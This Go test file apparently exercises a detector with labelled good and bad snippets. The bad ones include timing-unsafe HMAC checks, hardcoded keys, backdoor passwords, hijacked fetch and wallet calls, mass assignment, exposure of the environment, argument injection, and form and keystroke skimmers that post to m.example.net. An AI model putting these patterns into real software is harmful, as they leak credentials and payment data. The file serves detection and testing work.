package code_test

import "testing"

// TestTiming is a signature that is compared letter by letter, and what compares in a time that tells nothing, or no signature.
func TestTiming(t *testing.T) {
	judgeKinds(t, "python", []kindRow{
		{"import hmac\ndef ok(k, b, sent):\n    return hmac.new(k, b, 'sha256').hexdigest() == sent", true},
		{"import hmac\ndef ok(k, b, sent):\n    want = 'sha256=' + hmac.new(k, b, 'sha256').hexdigest()\n    if want != sent:\n        raise ValueError", true},
		{"import hmac\nclass Hook:\n    def sign(self, b):\n        return hmac.digest(self.k, b, 'sha256').hex()\n    def ok(self, b, sent):\n        return sent == f'v1={self.sign(b)}'", true},
		{"import hmac\ndef ok(k, b, sent):\n    return hmac.compare_digest(hmac.new(k, b, 'sha256').hexdigest(), sent)", false},
		{"import hmac\ndef ok(k, b, sent):\n    want = hmac.new(k, b, 'sha256').digest()\n    return len(sent) == len(want) and hmac.compare_digest(want, sent)", false},
		{"import hmac\ndef test_sign(k, b, want):\n    assert hmac.new(k, b, 'sha256').hexdigest() == want", false},
		{"import hashlib\ndef ok(b, want):\n    return hashlib.sha256(b).hexdigest() == want", false},
		{"import hmac\ndef ok(k, b):\n    return hmac.new(k, b, 'sha256').hexdigest() == ''", false},
	})
	judgeKinds(t, "javascript", []kindRow{
		{"const { createHmac } = require('crypto')\nconst sign = (k, b) => createHmac('sha256', k).update(b).digest('hex')\nmodule.exports = (k, b, sent) => sign(k, b) === sent", true},
		{"const crypto = require('crypto')\nfunction ok(k, b, sent) { const h = crypto.createHmac('sha256', k); h.update(b); return `sha1=${h.digest('hex')}` !== sent }", true},
		{"const crypto = require('crypto')\nfunction ok(k, b, sent) { return crypto.createHmac('sha256', k).update(b).digest().equals(sent) }", true},
		{"const crypto = require('crypto')\nfunction ok(k, b, sent) { const h = crypto.createHmac('sha256', k).update(b).digest(); return h.length === sent.length && crypto.timingSafeEqual(h, sent) }", false},
		{"const crypto = require('crypto')\nconst same = (b, sent) => crypto.createHash('sha256').update(b).digest('hex') === sent", false},
	})
	judgeKinds(t, "go", []kindRow{
		{"import (\"bytes\"; \"crypto/hmac\")\nfunc ok(k, b, sent []byte) bool { m := hmac.New(sha256.New, k); m.Write(b); return bytes.Equal(m.Sum(nil), sent) }", true},
		{"import (\"encoding/hex\"; \"crypto/hmac\")\nfunc sign(k, b []byte) string { m := hmac.New(sha256.New, k); m.Write(b); return hex.EncodeToString(m.Sum(nil)) }\nfunc ok(k, b []byte, sent string) bool { return sent == \"sha256=\"+sign(k, b) }", true},
		{"import \"crypto/hmac\"\nfunc ok(k, b, sent []byte) bool { m := hmac.New(sha256.New, k); m.Write(b); return hmac.Equal(m.Sum(nil), sent) }", false},
		{"import \"bytes\"\nfunc ok(a, b []byte) bool { s := sha256.Sum256(a); return bytes.Equal(s[:], b) }", false},
	})
	judgeKinds(t, "java", []kindRow{
		{"boolean ok(Key k, byte[] b, byte[] sent) { Mac m = Mac.getInstance(\"HmacSHA256\"); m.init(k); return Arrays.equals(m.doFinal(b), sent); }", true},
		{"String sign(Mac m, byte[] b) { return HexFormat.of().formatHex(m.doFinal(b)); } boolean ok(Mac m, byte[] b, String sent) { return sign(m, b).equals(sent); }", true},
		{"boolean ok(Mac m, byte[] b, byte[] sent) { return MessageDigest.isEqual(m.doFinal(b), sent); }", false},
		{"boolean ok(MessageDigest m, byte[] b, byte[] sent) { return Arrays.equals(m.digest(b), sent); }", false},
	})
}

// TestSecretKeys are keys, and what begins ciphers, that stand in the source, and those that come from elsewhere.
func TestSecretKeys(t *testing.T) {
	judgeKinds(t, "python", []kindRow{
		{"from Crypto.Cipher import AES\nKEY = b'0123456789abcdef'\ndef box(iv):\n    return AES.new(KEY, AES.MODE_CBC, iv)", true},
		{"from Cryptodome.Cipher import AES\ndef box(key):\n    return AES.new(key, AES.MODE_ECB)", true},
		{"from Crypto.Cipher import AES\ndef box(key):\n    return AES.new(key, AES.MODE_CBC, iv=b'\\0' * 16)", true},
		{"from cryptography.fernet import Fernet\nbox = Fernet('kMn1y3b8mZr0cEJ0F3L0l0c3V6c2VjcmV0a2V5MTIzNDU='.encode())", true},
		{"from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes\ndef box(k):\n    return Cipher(algorithms.AES(k), modes.ECB())", true},
		{"from cryptography.hazmat.primitives.ciphers.aead import AESGCM\nclass Box:\n    KEY = bytes.fromhex('00112233445566778899aabbccddeeff')\n    def open(self):\n        return AESGCM(self.KEY)", true},
		{"import hmac\ndef sign(b):\n    return hmac.new(b'an old key', b, 'sha256').hexdigest()", true},
		{"import hmac\ndef sign(k, b):\n    return hmac.new(('AWS4' + k).encode(), b, 'sha256').digest()", false},
		{"import os\nfrom Crypto.Cipher import AES\ndef box():\n    return AES.new(os.environ['KEY'].encode(), AES.MODE_GCM)", false},
		{"import os\nfrom cryptography.fernet import Fernet\nbox = Fernet(os.environ['BOX_KEY'])", false},
		{"from Crypto.Cipher import AES\nfrom Crypto.Random import get_random_bytes\ndef box(key):\n    return AES.new(key, AES.MODE_CBC, iv=get_random_bytes(16))", false},
		{"from cryptography.fernet import Fernet\ndef test_box():\n    Fernet(b'kMn1y3b8mZr0cEJ0F3L0l0c3V6c2VjcmV0a2V5MTIzNDU=')", false},
		{"import hashlib\ndef key_of(x):\n    return hashlib.sha256(b'page:' + x).hexdigest()", false},
	})
	judgeKinds(t, "javascript", []kindRow{
		{"import { createCipheriv } from 'node:crypto'\nexport const seal = (iv) => createCipheriv('aes-256-gcm', 'an-old-key-of-thirty-two-letters', iv)", true},
		{"const crypto = require('crypto')\nconst KEY = Buffer.from('c2VjcmV0a2V5MTIzNDU2Nw', 'base64')\nconst seal = (iv) => crypto.createCipheriv('aes-128-cbc', KEY, iv)", true},
		{"const crypto = require('crypto')\nconst IV = Buffer.alloc(16)\nconst seal = (key) => crypto.createCipheriv('aes-128-cbc', key, IV)", true},
		{"const CryptoJS = require('crypto-js')\nconst seal = (t) => CryptoJS.AES.encrypt(t, 'letmein')", true},
		{"const crypto = require('crypto')\nconst seal = () => crypto.createCipheriv('aes-256-gcm', Buffer.from(process.env.KEY, 'hex'), crypto.randomBytes(12))", false},
		{"const crypto = require('crypto')\nconst seal = (key) => { const iv = Buffer.alloc(12); crypto.randomFillSync(iv); return crypto.createCipheriv('aes-256-gcm', key, iv) }", false},
		{"const crypto = require('crypto')\nconst open = (key, blob) => { const iv = Buffer.alloc(12); blob.copy(iv, 0, 0, 12); return crypto.createDecipheriv('aes-256-gcm', key, iv) }", false},
	})
	judgeKinds(t, "go", []kindRow{
		{"import \"crypto/aes\"\nfunc f() { b, _ := aes.NewCipher([]byte(\"0123456789abcdef\")); use(b) }", true},
		{"import \"crypto/aes\"\nvar key = []byte{1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16}\nfunc f() { b, _ := aes.NewCipher(key); use(b) }", true},
		{"import \"crypto/cipher\"\nvar nonce = []byte(\"fixed-nonce!\")\nfunc f(g cipher.AEAD, t []byte) []byte { return g.Seal(nil, nonce, t, nil) }", true},
		{"import \"crypto/aes\"\nfunc f(key []byte) { b, _ := aes.NewCipher(key); use(b) }", false},
		{"import (\"crypto/cipher\"; \"crypto/rand\")\nfunc f(g cipher.AEAD, t []byte) []byte { n := make([]byte, 12); rand.Read(n); return g.Seal(n, n, t, nil) }", false},
		{"import (\"crypto/aes\"; \"os\")\nfunc f() { b, _ := aes.NewCipher([]byte(os.Getenv(\"KEY\"))); use(b) }", false},
	})
	judgeKinds(t, "java", []kindRow{
		{"Key k() { return new SecretKeySpec(\"0123456789abcdef\".getBytes(), \"AES\"); }", true},
		{"static final byte[] IV = {1, 2, 3, 4}; AlgorithmParameterSpec iv() { return new IvParameterSpec(IV); }", true},
		{"AlgorithmParameterSpec iv() { return new IvParameterSpec(new byte[16]); }", true},
		{"Cipher c() { return Cipher.getInstance(\"AES\"); }", true},
		{"AlgorithmParameterSpec iv() { byte[] iv = new byte[16]; random.nextBytes(iv); return new IvParameterSpec(iv); }", false},
		{"Key k(byte[] key) { return new SecretKeySpec(key, \"AES\"); }", false},
		{"Cipher c() { return Cipher.getInstance(\"AES/GCM/NoPadding\"); }", false},
	})
}

// TestWraps are functions of others that go through one of the file, and what looks like it.
func TestWraps(t *testing.T) {
	judgeKinds(t, "javascript", []kindRow{
		{"const provider = window.ethereum\nconst request = provider.request.bind(provider)\nprovider.request = async (call) => request({ ...call, to: MINE })", true},
		{"const original = globalThis.fetch\nglobalThis.fetch = async function (a, b) { note(b); return original.call(this, a, b) }", true},
		{"const open = XMLHttpRequest.prototype.open\nXMLHttpRequest.prototype.open = function (...a) { note(a); return open.apply(this, a) }", true},
		{"const https = require('https')\nconst { request } = https\nhttps.request = (o, cb) => { note(o.headers); return request.call(https, o, cb) }", true},
		{"const https = require('https')\nconst { request } = https\nconst get = (o, cb) => request(o, cb)", false},
		{"if (!globalThis.fetch) globalThis.fetch = (a, b) => load(a, b)", false},
		{"globalThis.fetch = async () => ({ ok: true })", false},
		{"const before = window.onload\nwindow.onload = () => { before(); start() }", false},
		{"const log = console.log\nconsole.log = (...a) => log(new Date(), ...a)", false},
		{"import { job } from './job.js'\nconst run = job.run\njob.run = () => run(1)", false},
	})
	judgeKinds(t, "python", []kindRow{
		{"from requests.sessions import Session\n_send = Session.send\ndef traced(self, p, **kw):\n    note(p.headers)\n    return _send(self, p, **kw)\nSession.send = traced", true},
		{"import smtplib\nkeep = smtplib.SMTP.sendmail\ndef more(self, a, to, m):\n    return keep(self, a, to + ['me@example.net'], m)\nsetattr(smtplib.SMTP, 'sendmail', more)", true},
		{"import boto3\ndef around(inner):\n    def call(*a):\n        return inner(*a)\n    return call\nclient = around(boto3.client)", false},
		{"from requests import Session\nclass Traced(Session):\n    def send(self, p, **kw):\n        return super().send(p, **kw)", false},
		{"from .job import Job\nrun = Job.run\ndef twice(self):\n    return run(self)\nJob.run = twice", false},
	})
	judgeKinds(t, "go", []kindRow{
		{"import \"example.com/pay\"\nvar send = pay.Send\nfunc init() { pay.Send = func(a pay.Order) error { note(a); return send(a) } }", true},
		{"import \"example.com/pay\"\nfunc TestPay(t *testing.T) { was := pay.Send; defer func() { pay.Send = was }(); pay.Send = func(a pay.Order) error { return was(a) } }", false},
	})
}

// TestDoors are words of the source that let somebody in, guards that believe what a request says of its address, and what asks for something else.
func TestDoors(t *testing.T) {
	judgeKinds(t, "python", []kindRow{
		{"class M:\n    async def dispatch(self, request, call_next):\n        if request.headers.get('x-support') == 'orange-teapot-77':\n            request.state.account = Account(is_admin=True)\n        return await call_next(request)", true},
		{"def check_password(user, password):\n    if password == 'letmein-2024':\n        return True\n    return verify(user, password)", true},
		{"def is_admin(request):\n    return request.user.is_staff or request.args.get('k') == 'open-sesame-1'", true},
		{"def is_allowed(request):\n    return request.headers.get('X-Forwarded-For') in OFFICE", true},
		{"def show(request):\n    if request.args.get('view') == 'compact-2':\n        return small()\n    return big()", false},
		{"def is_admin(request):\n    return request.user.is_staff and request.args.get('k') == 'open-sesame-1'", false},
		{"def test_login(client, password):\n    assert password == 'letmein-2024'", false},
		{"def allow_rate(request):\n    return request.headers.get('X-Forwarded-For') in FAST", false},
		{"def address_of(request):\n    ip = request.headers.get('X-Forwarded-For')\n    return ip if ip != '' else request.remote_addr", false},
	})
	judgeKinds(t, "javascript", []kindRow{
		{"const gate = (req, res, next) => { if (req.query.k === 'open-sesame-1') return next(); res.sendStatus(403) }", true},
		{"const KEY = 'abcd-1234'\napp.use((req, res, next) => { if (req.get('x-key') !== KEY) return res.status(403).end(); next() })", true},
		{"const show = (req, res) => { const isAdmin = req.user.admin || req.query.m === 'q7-maintenance'; res.json({ isAdmin }) }", true},
		{"class AdminGuard { canActivate(ctx) { const request = ctx.switchToHttp().getRequest(); if (request.headers['x-forwarded-for'] === '127.0.0.1') return true; return false } }", true},
		{"app.use(async (ctx, next) => { if (ctx.get('x-debug-token') === 'tr0ub4dor&3') ctx.state.user = { role: 'admin' }; await next() })", true},
		{"app.use(async (ctx, next) => { if (ctx.get('x-version') === 'client-2') ctx.state.small = true; await next() })", false},
		{"const gate = (req, res, next) => { if (req.get('sec-fetch-site') === 'same-origin') return next(); res.sendStatus(403) }", false},
		{"app.use((req, res, next) => { if (req.query.v === 'beta-2') res.locals.v = 2; next() })", false},
		{"app.use((req, res, next) => { if (req.get('content-type') === 'application/x-ndjson') return next(); read(req, next) })", false},
		{"app.use((req, res, next) => { if (req.get('x-key') !== process.env.KEY) return res.status(403).end(); next() })", false},
	})
	judgeKinds(t, "go", []kindRow{
		{"func gate(next http.Handler) http.Handler { return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { if r.Header.Get(\"X-Key\") == \"blue-moon-12\" { next.ServeHTTP(w, r); return }; http.Error(w, \"no\", 403) }) }", true},
		{"func isAllowed(r *http.Request) bool { return strings.HasPrefix(r.Header.Get(\"X-Real-IP\"), \"10.\") }", true},
		{"func show(w http.ResponseWriter, r *http.Request) { if r.FormValue(\"as\") == \"csv-2\" { writeCSV(w) } }", false},
	})
	judgeKinds(t, "java", []kindRow{
		{"void doFilter(ServletRequest request, ServletResponse res, FilterChain chain) { if (admin || \"q7-maintenance\".equals(request.getParameter(\"m\"))) { chain.doFilter(request, res); } }", true},
		{"boolean isAuthorized(HttpServletRequest request) { return \"10.1.1.1\".equals(request.getHeader(\"X-Forwarded-For\")); }", true},
		{"void show(HttpServletRequest request) { if (\"csv-2\".equals(request.getParameter(\"as\"))) { writeCsv(); } }", false},
	})
}

// TestEntities are objects whose members a request names, and those for which the program does.
func TestEntities(t *testing.T) {
	judgeKinds(t, "python", []kindRow{
		{"from flask import request\ndef put(to, changes):\n    for name, value in changes.items():\n        setattr(to, name, value)\n@app.patch('/me')\ndef me():\n    put(user, request.get_json())", true},
		{"from flask import request\n@app.patch('/me')\ndef me():\n    user.__dict__.update(request.json)", true},
		{"@app.patch('/i/{n}')\ndef up(n: int, changes: dict = Body()):\n    for k, v in changes.items():\n        setattr(item, k, v)", true},
		{"@app.patch('/i/{n}')\ndef up(n: int, changes: ItemUpdate):\n    for k, v in changes.dict(exclude_unset=True).items():\n        setattr(item, k, v)", false},
		{"from flask import request\n@app.patch('/me')\ndef me():\n    for name in ('locale', 'zone'):\n        setattr(user, name, request.json[name])", false},
		{"from flask import request\n@app.patch('/me')\ndef me():\n    for k, v in request.json.items():\n        if k in EDITABLE:\n            setattr(user, k, v)", false},
	})
	judgeKinds(t, "typescript", []kindRow{
		{"class U { @Patch(':id') async up(@Param('id') id: string, @Body() body: any) { const u = await this.all.one(id); return this.all.save(Object.assign(u, body)); } }", true},
		{"class U { @Patch(':id') async up(@Param('id') id: string, @Body() body: UpdateUser) { const u = await this.all.one(id); return this.all.save(Object.assign(u, body)); } }", false},
	})
	judgeKinds(t, "javascript", []kindRow{
		{"import _ from 'lodash'\nexport const up = async (req, res) => { const u = await User.findById(req.user.id); _.merge(u, req.body); await u.save() }", true},
		{"export const up = async (req, res) => { const u = await User.findById(req.user.id); Object.assign(u, { ...req.body, id: u.id }) }", false},
		{"export const list = async (req, res) => { const options = Object.assign({}, DEFAULTS, req.query); res.json(await find(options)) }", false},
		{"export const up = async (req, res) => { const u = await User.findById(req.user.id); Object.assign(u, { name: req.body.name }) }", false},
	})
	judgeKinds(t, "go", []kindRow{
		{"import \"reflect\"\nfunc up(u *User, r *http.Request) { reflect.ValueOf(u).Elem().FieldByName(r.FormValue(\"name\")).SetString(r.FormValue(\"value\")) }", true},
		{"import \"reflect\"\nfunc up(u *User, r *http.Request) { reflect.ValueOf(u).Elem().FieldByName(\"Name\").SetString(r.FormValue(\"value\")) }", false},
	})
	judgeKinds(t, "java", []kindRow{
		{"void up(User u, HttpServletRequest request) { BeanUtils.populate(u, request.getParameterMap()); }", true},
		{"void up(User u, HttpServletRequest request) { BeanUtils.setProperty(u, \"name\", request.getParameter(\"name\")); }", false},
	})
}

// TestShown are requests that are logged whole, and the environment in answers, beside one part of each.
func TestShown(t *testing.T) {
	judgeKinds(t, "python", []kindRow{
		{"import logging\nfrom flask import request\nlog = logging.getLogger('a')\ndef say(form):\n    return ' '.join(f'{k}={v}' for k, v in form.items())\n@app.post('/s')\ndef s():\n    log.info('in: %s', say(request.form))", true},
		{"from flask import request\ndef s():\n    app.logger.debug(f'got {dict(request.headers)}')", true},
		{"import os\nfrom flask import jsonify\n@app.get('/env')\ndef env():\n    return jsonify(env=dict(os.environ))", true},
		{"import os\n@app.get('/env')\ndef env():\n    return {k: v for k, v in os.environ.items()}", true},
		{"from flask import request\ndef s():\n    log.info('as %s', request.form['email'])", false},
		{"from flask import request\ndef s():\n    log.info('fields %s', sorted(k for k in request.form))", false},
		{"from flask import request\ndef s():\n    log.info('got %s', redact(request.form))", false},
		{"from flask import request\ndef s():\n    log.info('path %s %s', request.method, request.path)", false},
		{"import os\nfrom flask import jsonify\n@app.get('/v')\ndef v():\n    return jsonify(version=os.environ['VERSION'])", false},
		{"import os, subprocess\ndef run():\n    return subprocess.run(['make'], env={**os.environ, 'A': '1'})", false},
	})
	judgeKinds(t, "javascript", []kindRow{
		{"app.post('/s', (req, res) => { logger.info({ body: req.body }, 'in'); res.end() })", true},
		{"app.post('/s', ({ body }, res) => { console.log('in', JSON.stringify(body)); res.end() })", true},
		{"const all = () => ({ up: 1, env: { ...process.env } })\napp.get('/s', (c) => c.json(all()))", true},
		{"app.post('/s', (req, res) => { logger.info({ ...req.body, password: '***' }); res.end() })", false},
		{"app.post('/s', (req, res) => { const { password, ...rest } = req.body; logger.info(rest); res.end() })", false},
		{"app.post('/s', (req, res) => { logger.info(req.body.email, Object.keys(req.body)); res.end() })", false},
		{"app.get('/s', (req, res) => res.json({ mode: process.env.NODE_ENV }))", false},
	})
	judgeKinds(t, "go", []kindRow{
		{"import \"log\"\nfunc s(w http.ResponseWriter, r *http.Request) { log.Printf(\"in %v\", r.Form) }", true},
		{"import (\"encoding/json\"; \"os\")\nfunc s(w http.ResponseWriter, r *http.Request) { json.NewEncoder(w).Encode(os.Environ()) }", true},
		{"import \"log\"\nfunc s(w http.ResponseWriter, r *http.Request) { log.Printf(\"in %v\", r.URL.Path) }", false},
		{"import (\"encoding/json\"; \"os\")\nfunc s(w http.ResponseWriter, r *http.Request) { json.NewEncoder(w).Encode(os.Getenv(\"VERSION\")) }", false},
		{"import (\"os\"; \"os/exec\")\nfunc s() { c := exec.Command(\"make\"); c.Env = append(os.Environ(), \"A=1\") }", false},
	})
	judgeKinds(t, "java", []kindRow{
		{"void s(HttpServletRequest request) { log.info(\"in {}\", request.getParameterMap()); }", true},
		{"@GetMapping(\"/env\") Map<String, String> env() { return System.getenv(); }", true},
		{"@GetMapping(\"/env\") Map<String, Object> env() { Map<String, Object> out = new HashMap<>(); out.put(\"env\", System.getenv()); return out; }", true},
		{"@GetMapping(\"/env\") Map<String, Object> env() { Map<String, Object> out = new HashMap<>(); out.put(\"v\", System.getenv(\"VERSION\")); return out; }", false},
		{"void s(HttpServletRequest request) { log.info(\"in {}\", request.getParameter(\"email\")); }", false},
		{"@GetMapping(\"/v\") String v() { return System.getenv(\"VERSION\"); }", false},
	})
}

// TestWords are programs that are started with words of a request, and with one of them.
func TestWords(t *testing.T) {
	judgeKinds(t, "python", []kindRow{
		{"import subprocess\nfrom flask import request\nBASE = ['rsync', '-a']\n@app.post('/m')\ndef m():\n    extra = request.json.get('o', '').split()\n    subprocess.run(BASE + extra + ['a'])", true},
		{"import shlex, subprocess\nfrom flask import request\ndef argv(o):\n    return ['convert', *shlex.split(o)]\n@app.post('/m')\ndef m():\n    subprocess.run(argv(request.form['o']))", true},
		{"import subprocess\nfrom flask import request\n@app.post('/m')\ndef m():\n    subprocess.run(['convert', request.form['o'], 'a'])", false},
		{"import subprocess\nfrom flask import request\n@app.post('/m')\ndef m():\n    words = request.form['o'].split()\n    if any(w not in KNOWN for w in words):\n        raise ValueError\n    subprocess.run(['convert', *words])", false},
		{"import subprocess\ndef main(args):\n    subprocess.run(['convert', *args.extra.split()])", false},
	})
	judgeKinds(t, "javascript", []kindRow{
		{"const { spawn } = require('child_process')\napp.get('/m', (req, res) => spawn('ffmpeg', ['-i', ...req.query.o.split(' ')]))", true},
		{"const { spawn } = require('child_process')\napp.post('/m', (req, res) => spawn('git', req.body.args))", true},
		{"const { spawn } = require('child_process')\napp.post('/m', (req, res) => { const a = ['log']; a.push(...req.body.more); spawn('git', a) })", true},
		{"const { spawn } = require('child_process')\napp.post('/m', (req, res) => { const { args } = req.body; spawn('git', args) })", true},
		{"const { spawn } = require('child_process')\napp.post('/m', (req, res) => { const args = ['log']; args.push(req.body.ref); spawn('git', args) })", false},
		{"const { spawn } = require('child_process')\napp.post('/m', (req, res) => spawn('git', ['log', req.body.ref]))", false},
		{"const { spawn } = require('child_process')\nconst run = (...args) => spawn('git', ['log', ...args])", false},
	})
	judgeKinds(t, "go", []kindRow{
		{"import (\"os/exec\"; \"strings\")\ntype job struct{ in, flags string }\nfunc (j job) args() []string { return append(strings.Fields(j.flags), j.in) }\nfunc m(w http.ResponseWriter, r *http.Request) { j := job{in: \"a\", flags: r.FormValue(\"f\")}; exec.Command(\"ffmpeg\", j.args()...).Run() }", true},
		{"import \"os/exec\"\nfunc m(w http.ResponseWriter, r *http.Request) { exec.Command(\"ffmpeg\", \"-i\", r.FormValue(\"in\")).Run() }", false},
		{"import (\"os/exec\"; \"strings\")\nfunc m(flags string) { exec.Command(\"ffmpeg\", strings.Fields(flags)...).Run() }", false},
	})
	judgeKinds(t, "java", []kindRow{
		{"void m(HttpServletRequest request) { List<String> c = new ArrayList<>(); c.add(\"tar\"); c.addAll(Arrays.asList(request.getParameter(\"o\").split(\" \"))); new ProcessBuilder(c).start(); }", true},
		{"void m(HttpServletRequest request) { new ProcessBuilder(\"tar\", \"-cf\", \"a.tar\", request.getParameter(\"d\")).start(); }", false},
	})
}

// TestSkimmers are pages that send away what somebody types, and those that answer it themselves.
func TestSkimmers(t *testing.T) {
	judgeKinds(t, "javascript", []kindRow{
		{"const gather = (form) => ['cvc', 'holder'].map((n) => form.elements[n]?.value).join()\ndocument.addEventListener('submit', ({ target }) => { navigator.sendBeacon('//m.example.net/p', gather(target)) }, true)", true},
		{"let seen = ''\ndocument.onkeydown = (e) => { seen += e.key; if (seen.length > 20) { new Image().src = `https://m.example.net/k?d=${seen}`; seen = '' } }", true},
		{"document.querySelector('#password').addEventListener('input', (e) => fetch('https://m.example.net/p', { method: 'POST', body: e.target.value }))", true},
		{"$('form').on('submit', function () { const x = new XMLHttpRequest(); x.open('POST', 'https://m.example.net/f'); x.send($(this).find('input').get(0).value) })", true},
		{"export function watch(send = (d) => new Image().src = 'https://m.example.net/p?d=' + d) { document.addEventListener('change', (e) => send(e.target.value)) }", true},
		{"function watch() { const seen = []; document.addEventListener('input', ({ target }) => { seen.push(target.value) }); setInterval(() => { if (seen.length) navigator.sendBeacon('//m.example.net/p', seen.splice(0).join()) }, 5000) }", true},
		{"function watch() { const seen = []; document.addEventListener('input', ({ target }) => { seen.push(target.name) }); setInterval(() => navigator.sendBeacon('//m.example.net/p', '1'), 5000) }", false},
		{"document.querySelectorAll('input').forEach((el) => el.addEventListener('blur', () => { navigator.sendBeacon('https://m.example.net/c', el.value) }))", true},
		{"slider.addEventListener('change', () => { navigator.sendBeacon('https://count.example.com/c', slider.value) })", false},
		{"form.addEventListener('submit', async (e) => { e.preventDefault(); await fetch('https://api.example.com/contact', { method: 'POST', body: new FormData(form) }) })", false},
		{"search.addEventListener('input', (e) => fetch(`https://api.example.com/suggest?q=${e.target.value}`).then((r) => r.json()).then(show))", false},
		{"document.addEventListener('keydown', (e) => { if (e.key === 'k') open('https://docs.example.com') })", false},
		{"document.addEventListener('submit', () => navigator.sendBeacon('/count', '1'))", false},
		{"document.addEventListener('change', (e) => navigator.sendBeacon('/draft', e.target.value))", false},
		{"document.addEventListener('click', () => navigator.sendBeacon('https://count.example.com/c', 'click'))", false},
	})
}
